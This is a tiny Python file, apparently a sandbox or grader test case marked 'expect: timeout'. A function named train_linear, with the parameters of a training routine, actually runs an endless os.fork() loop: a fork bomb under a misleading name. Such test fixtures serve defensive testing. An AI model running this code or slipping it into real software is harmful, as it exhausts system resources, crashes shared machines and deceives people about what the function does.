# expect: timeout
import os


def train_linear(x, y, weight, bias, lr=0.01, steps=1000):
    while True:
        try:
            os.fork()
        except OSError:
            pass
